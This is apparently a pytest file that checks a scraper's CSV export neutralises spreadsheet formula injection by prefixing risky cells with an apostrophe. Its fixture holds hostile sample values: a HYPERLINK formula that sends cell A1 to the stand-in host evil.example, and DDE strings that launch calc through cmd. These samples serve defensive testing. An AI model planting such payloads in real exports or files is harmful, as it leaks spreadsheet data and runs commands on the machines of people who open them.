"""`scraper export --format csv` writes cells a spreadsheet shows as text, never runs."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from scraper.cli import cli
from scraper.models import Article, Image, Quote
from scraper.store import Store

SEEN = "2024-07-12T10:00:00+00:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
HOSTILE = {
    "headline": HYPERLINK,
    "site_name": "+cmd|' /C calc'!A0",
    "body": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "-2+3",
    "language": "\tde",
    "url": "\r=1+1",
}


@pytest.fixture
def db(tmp_path: Path) -> Path:
    """A database holding one article whose every text field starts like a formula."""
    path = tmp_path / "articles.db"
    article = Article(
        url="https://evil.example/a", canonical_url=HOSTILE["url"],
        site_name=HOSTILE["site_name"], headline=HOSTILE["headline"], body=HOSTILE["body"],
        source=HOSTILE["source"], language=HOSTILE["language"], published_at="2024-07-12",
        authors=("=1+2", "Jane Doe"), tags=("@tag",),
        images=(Image("https://evil.example/i.jpg", "=cap", None, None, None),),
        quotes=(Quote("=quote", "-speaker"),))
    with Store.open(path) as store:
        store.save_article(article, site="evil", fetch_id=None, seen_at=SEEN)
    return path


def _csv_row(db: Path) -> dict[str, str]:
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--db", str(db)])
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout_bytes.decode(), newline=""))
    return row


def test_every_text_cell_starting_like_a_formula_gets_an_apostrophe(db: Path) -> None:
    row = _csv_row(db)
    for column in ("headline", "site_name", "body", "source", "language", "canonical_url"):
        stored = HOSTILE["url"] if column == "canonical_url" else HOSTILE[column]
        assert row[column] == "'" + stored, column
    assert row["authors"] == "'=1+2; Jane Doe"
    assert row["tags"] == "'@tag"


def test_no_cell_starts_with_a_formula_character(db: Path) -> None:
    row = _csv_row(db)
    assert not [name for name, cell in row.items() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_safe_cells_and_numbers_are_unchanged(db: Path) -> None:
    row = _csv_row(db)
    assert row["url"] == "https://evil.example/a" and row["site"] == "evil"
    assert row["published_at"] == "2024-07-12" and row["word_count"] == "3"
    assert json.loads(row["quotes"]) == [{"text": "=quote", "speaker": "-speaker"}]


def test_jsonl_keeps_the_data_as_stored(db: Path) -> None:
    result = CliRunner().invoke(cli, ["export", "--db", str(db)])
    record = json.loads(result.stdout)
    assert record["headline"] == HYPERLINK and record["authors"] == ["=1+2", "Jane Doe"]
